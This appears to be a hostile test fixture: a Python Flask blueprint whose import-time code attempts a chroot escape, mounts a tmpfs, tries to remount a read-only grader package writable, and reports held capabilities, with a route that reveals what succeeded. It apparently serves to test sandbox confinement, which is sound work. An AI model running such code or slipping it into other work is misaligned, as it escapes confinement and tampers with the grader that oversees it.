"""Hostile: at import, try to leave the private root (the chroot trick: chroot
into a subfolder, climb, chroot to where it stops), to mount a tmpfs, and to
remount the read-only grader package writable; and report any capability held.
The view for 41 tells what it managed.

Guarded: it acts only as the init of a PID namespace of its own (pid 1), that
is, only when confined."""

import ctypes
import json
import os
from pathlib import Path

from flask import Blueprint

blue = Blueprint("blue", __name__)
_ENV = Path(__file__).with_name("hostile_env.json")
ENV = json.loads(_ENV.read_text()) if _ENV.exists() else {}
MS_REMOUNT, MS_BIND, MS_RDONLY = 32, 4096, 1


def _capabilities():
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("CapEff:") and int(line.split()[1], 16):
            return [f"held capabilities {line.split()[1]}"]
    return []


def _chroot_trick():
    if os.getpid() != 1:
        return []
    victim = ENV.get("victim_file", "/nonexistent")
    try:
        os.makedirs("jail", exist_ok=True)
        os.chroot("jail")
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
    except OSError:
        return []
    return [f"left the private root (sees the victim: {os.path.exists(victim)})"]


def _mounts():
    if os.getpid() != 1:
        return []
    libc = ctypes.CDLL(None, use_errno=True)
    done = []
    os.makedirs("mnt", exist_ok=True)
    if libc.mount(b"tmpfs", b"mnt", b"tmpfs", 0, None) == 0:
        done.append("mounted a tmpfs")
    package = os.path.join(ENV.get("repo", "/nonexistent"), "grader").encode()
    if libc.mount(None, package, None, MS_REMOUNT | MS_BIND, None) == 0:
        done.append("remounted the grader package writable")
    return done


ESCAPED = _capabilities() + _mounts() + _chroot_trick()


@blue.route("/testroute3/<int:money>/")
def testroute3(money):
    if money == 41 and ESCAPED:
        return "ESCAPED " + " | ".join(ESCAPED)
    return f"money={money} next={money + 1}"
